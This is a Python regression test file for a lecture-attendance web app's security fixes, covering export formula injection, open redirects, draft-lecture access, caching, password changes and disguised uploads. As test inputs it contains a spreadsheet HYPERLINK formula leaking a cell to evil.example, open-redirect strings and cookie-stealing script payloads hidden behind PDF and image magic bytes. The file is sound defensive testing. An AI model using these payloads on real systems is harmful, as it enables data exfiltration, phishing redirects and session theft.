"""Issue 17, security round two: each point's regression test (the rate limits are in test_rate_limits.py)."""
from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from lecturehub.accounts.models import User
from lecturehub.attendance import services as attendance_services
from lecturehub.attendance.models import AttendanceRecord, LeaveRequest
from lecturehub.core.exports import neutralise_formula
from lecturehub.core.permissions import is_safe_next
from lecturehub.core.timeutil import utcnow
from lecturehub.courses.models import LectureVenue
from lecturehub.extensions import db
from lecturehub.quizzes.models import Question, QuestionKind
from lecturehub.reports.tables import Column, Table, to_csv, to_xlsx

from .conftest import PASSWORD, make_test_app

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"详情")'


# --- 2. formula injection in exports ----------------------------------------------------------------------

def xlsx_cells(data: bytes) -> list:
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_text_that_starts_a_formula_is_written_as_text(text):
    table = Table("t", [Column("名字"), Column("数", "int"), Column("率", "percent")], rows=[[text, -3, 50.0]])
    cells = xlsx_cells(to_xlsx(table))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    name, number, rate = cells[3:6]
    # The file escapes a carriage return as _x000D_ (ECMA-376's escape, which Excel, WPS and LibreOffice read back
    # as the character); openpyxl leaves escapes as written, so they are read back here as a spreadsheet does.
    shown = re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), name.value)
    assert shown == "'" + text and name.data_type == "s"
    # Real numbers keep their type: a negative number is still a number Excel can sum.
    assert number.value == -3 and number.data_type == "n"
    assert rate.value == 0.5 and rate.data_type == "n"
    assert csv_rows(to_csv(table))[1] == ["'" + text, "-3", "50.0%"]


def test_ordinary_text_is_unchanged():
    assert neutralise_formula("张伟 = 出席") == "张伟 = 出席"
    assert neutralise_formula("") == ""
    assert neutralise_formula(-1) == -1


def test_a_members_leave_reason_is_no_formula_in_the_coordinators_export(app, client, ctx, org, make_lecture):
    """The issue's case: a plain member's reason became a live formula in the coordinator's download."""
    lecture = make_lecture(utcnow() + timedelta(days=1))
    member = db.session.get(User, org["member_a"])
    member.name = "@evil"
    leave = attendance_services.request_leave(member, lecture, HYPERLINK)
    attendance_services.decide_leave(leave, approve=True, by=db.session.get(User, org["coord_a"]), note="-ok")
    client.login("coord01")
    base = f"/reports/lectures/{lecture.id}/venues/{org['branch_a']}"
    cells = xlsx_cells(client.get(base + "?format=xlsx").data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert "'" + HYPERLINK in values and "'@evil" in values
    text = [cell for row in csv_rows(client.get(base + "?format=csv").data) for cell in row]
    assert "'" + HYPERLINK in text and "'@evil" in text


# --- 5 and 12. redirects the browser would read differently; newlines; huge page numbers ------------------

@pytest.mark.parametrize("target", ["/\t/evil.example", "/\n/evil.example", "/\r/x", "/\\evil.example",
                                    "//evil.example", "/\t\\evil.example", "https://evil.example",
                                    "/\x00/x", "/\x7f/x", "javascript:alert(1)", "", None])
def test_unsafe_next_targets_are_refused(target):
    assert not is_safe_next(target)


@pytest.mark.parametrize("target", ["/home", "/lectures/3?tab=quiz", "/reports/me?year=2020#top", "/a//b"])
def test_site_paths_are_accepted(target):
    assert is_safe_next(target)


@pytest.mark.parametrize("query", ["/%09/evil.example", "/%0A/x", "/%0D/x", "/%5Cevil.example", "/%00/x"])
def test_language_switch_never_leaves_the_site_nor_fails(client, query):
    response = client.get(f"/lang/en?next={query}")
    assert response.status_code == 302
    assert response.headers["Location"] == "/"


@pytest.mark.parametrize("query", ["/%09/evil.example", "/%0D/x", "/%0A/x"])
def test_sign_in_never_redirects_off_site_nor_fails(client, org, query):
    token = client.csrf_token("/login")
    response = client.post(f"/login?next={query}", data={"csrf_token": token, "username": "m0001",
                                                         "password": PASSWORD})
    assert response.status_code == 302
    assert response.headers["Location"] == "/home"


def test_sign_in_still_returns_to_a_page_of_the_site(client, org):
    token = client.csrf_token("/login")
    response = client.post("/login?next=/reports/me", data={"csrf_token": token, "username": "m0001",
                                                            "password": PASSWORD})
    assert response.headers["Location"] == "/reports/me"


@pytest.mark.parametrize("url", ["/admin/audit?page=99999999999999999999999", "/admin/audit?page=100001",
                                 "/admin/users?page=99999999999999999999999", "/admin/audit?page=-1"])
def test_page_numbers_beyond_any_list_are_a_clear_refusal(client, org, url):
    client.login("admin")
    response = client.get(url)
    assert 400 <= response.status_code < 500
    assert "error" in response.get_data(as_text=True)


def test_audit_log_pages_still_work(client, org):
    client.login("admin")
    response = client.get("/admin/audit?page=2")
    assert response.status_code == 200


def test_a_question_moved_while_another_admin_deletes_it_is_a_clear_409(app, client, ctx, org, make_lecture):
    lecture = make_lecture(utcnow() + timedelta(days=1))
    db.session.add(Question(lecture_id=lecture.id, key="q2", position=2, kind=QuestionKind.TRUE_FALSE,
                            stem="判断二", options=[], answer=[1], explanation="解析"))
    db.session.commit()
    first, second = db.session.scalars(sa.select(Question.id).where(Question.lecture_id == lecture.id)
                                       .order_by(Question.position)).all()
    client.login("admin")
    token = client.csrf_token(f"/admin/lectures/{lecture.id}/quiz")

    # The other admin's delete lands between this request's read of the bank and its write.
    def delete_meanwhile(session, flush_context, instances):
        if not deleted:
            deleted.append(True)
            with db.engine.begin() as conn:
                conn.execute(sa.delete(Question.__table__).where(Question.id == second))

    deleted: list[bool] = []
    sa.event.listen(sa.orm.Session, "before_flush", delete_meanwhile)
    try:
        response = client.post(f"/admin/questions/{first}/move", data={"csrf_token": token, "direction": "down"})
    finally:
        sa.event.remove(sa.orm.Session, "before_flush", delete_meanwhile)
    assert deleted
    assert response.status_code == 409, response.get_data(as_text=True)[:500]
    assert "同一时间" in response.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.get(Question, first).position == 1  # nothing of the failed move was kept


# --- 7. draft lectures through the venue pages --------------------------------------------------------------

def draft_scene(org, make_lecture) -> dict:
    lecture = make_lecture(utcnow() + timedelta(minutes=5), published=False)
    link = db.session.scalar(sa.select(LectureVenue).where(LectureVenue.lecture_id == lecture.id,
                                                           LectureVenue.venue_id == org["branch_a"]))
    leave = LeaveRequest(lecture_id=lecture.id, user_id=org["member_a2"], reason="家中有事")
    db.session.add(leave)
    db.session.commit()
    return {"lecture": lecture.id, "link": link.id, "leave": leave.id}


DRAFT_ROUTES = [("GET", "/roster/{link}"), ("GET", "/screen/{link}"), ("GET", "/screen/{link}/state"),
                ("GET", "/desk/{link}"), ("POST", "/desk/{link}"), ("POST", "/roster/{link}/status"),
                ("POST", "/roster/{link}/sheet"), ("POST", "/leave/{leave}/decide"), ("GET", "/checkin/{link}"),
                ("POST", "/checkin/{link}")]


@pytest.mark.parametrize("method,url", DRAFT_ROUTES)
def test_a_draft_lecture_does_not_exist_for_its_venues_coordinator(app, client, ctx, org, make_lecture, method, url):
    scene = draft_scene(org, make_lecture)
    client.login("coord01")
    path = url.format(**scene)
    if method == "GET":
        response = client.get(path)
    else:
        token = client.csrf_token("/home")
        response = client.post(path, data={"csrf_token": token, "member": "m0001", "member_id": org["member_a"],
                                           "status": "present", "approve": "1", "code": "123456"})
    assert response.status_code == 404
    assert db.session.scalar(sa.select(sa.func.count(AttendanceRecord.id))) == 0


@pytest.mark.parametrize("url", ["/roster/{link}", "/screen/{link}", "/desk/{link}"])
def test_admins_still_prepare_a_draft_lectures_venue_pages(app, client, ctx, org, make_lecture, url):
    scene = draft_scene(org, make_lecture)
    client.login("admin")
    assert client.get(url.format(**scene)).status_code == 200


# --- 9. personal pages are not cached -----------------------------------------------------------------------

def test_pages_are_not_stored_by_browsers_or_proxies(app, client, ctx, org, open_lecture):
    link = db.session.scalar(sa.select(LectureVenue).where(LectureVenue.lecture_id == open_lecture.id,
                                                           LectureVenue.venue_id == org["branch_a"]))
    client.login("admin")
    token = client.csrf_token(f"/admin/users/{org['member_b']}")
    reset = client.post(f"/admin/users/{org['member_b']}/password", data={"csrf_token": token})
    assert reset.status_code == 200 and reset.headers["Cache-Control"] == "no-store"  # the one-time password
    for url in (f"/roster/{link.id}", f"/admin/users/{org['member_a']}", "/reports/me", "/account/password",
                "/home", f"/lectures/{open_lecture.id}/quiz", "/admin/audit", "/login?x", "/no-such-page"):
        response = client.get(url)
        assert response.headers.get("Cache-Control") == "no-store", url
    static = client.get("/static/core/style.css")
    assert static.status_code == 200 and "no-store" not in static.headers.get("Cache-Control", "")


# --- 10. the forced password change ------------------------------------------------------------------------

def test_the_forced_change_refuses_the_one_time_password(app, client, ctx, org):
    from lecturehub.accounts import services as account_services

    member = db.session.get(User, org["member_a"])
    one_time = account_services.reset_password(member, db.session.get(User, org["admin"]))
    client.login("m0001", one_time)
    response = client.submit("/account/password", {"current_password": one_time, "new_password": one_time,
                                                  "confirm": one_time})
    assert response.status_code == 422
    assert "不能与当前密码相同" in response.get_data(as_text=True), response.get_data(as_text=True)[-1500:]
    db.session.expire_all()
    assert db.session.get(User, org["member_a"]).must_change_password
    response = client.submit("/account/password", {"current_password": one_time, "new_password": "my-own-pass-7",
                                                  "confirm": "my-own-pass-7"})
    assert response.status_code == 302


# --- Info: HSTS and the language cookie over HTTPS ---------------------------------------------------------

def test_secure_cookies_bring_hsts_and_a_secure_language_cookie(database_url, tmp_path):
    secure = make_test_app(database_url, tmp_path, SESSION_COOKIE_SECURE=True).test_client()
    response = secure.get("/lang/en?next=/login", base_url="https://localhost")
    assert "Secure" in response.headers["Set-Cookie"]
    assert response.headers["Strict-Transport-Security"].startswith("max-age=")
    plain = make_test_app(database_url, tmp_path).test_client().get("/lang/en")
    assert "Secure" not in plain.headers["Set-Cookie"]
    assert "Strict-Transport-Security" not in plain.headers


# --- Info: uploads that are HTML behind a file type's magic bytes -------------------------------------------

@pytest.mark.parametrize(("name", "data"), [
    ("讲稿.pdf", b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>"),
    ("讲稿.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n<!DOCTYPE html>\n<p>hi</p>"),
    ("照片.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00 <svg onload=alert(1)>"),
    ("图表.png", b"\x89PNG\r\n\x1a\n< script>alert(1)</script>"),
])
def test_html_behind_magic_bytes_is_refused(app, client, ctx, org, make_lecture, name, data):
    from lecturehub.courses.models import Material

    lecture = make_lecture(utcnow() + timedelta(days=1))
    client.login("admin")
    response = client.submit(f"/admin/lectures/{lecture.id}/materials/upload",
                             {"file": (io.BytesIO(data), name), "title": ""},
                             token_from=f"/admin/lectures/{lecture.id}/materials", content_type="multipart/form-data")
    assert response.status_code == 422 and "whatever" not in response.get_data(as_text=True)
    assert "不是" in response.get_data(as_text=True)
    assert db.session.scalar(sa.select(sa.func.count(Material.id))) == 0


def test_a_real_pdf_with_xmp_metadata_still_uploads(app, client, ctx, org, make_lecture):
    lecture = make_lecture(utcnow() + timedelta(days=1))
    client.login("admin")
    data = (b"%PDF-1.6\n1 0 obj\n<< /Type /Metadata /Subtype /XML >>\nstream\n<?xpacket begin=''?>"
            b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF></rdf:RDF></x:xmpmeta>\nendstream\nendobj\n")
    response = client.submit(f"/admin/lectures/{lecture.id}/materials/upload",
                             {"file": (io.BytesIO(data), "讲稿.pdf"), "title": ""},
                             token_from=f"/admin/lectures/{lecture.id}/materials", content_type="multipart/form-data")
    assert response.status_code == 302
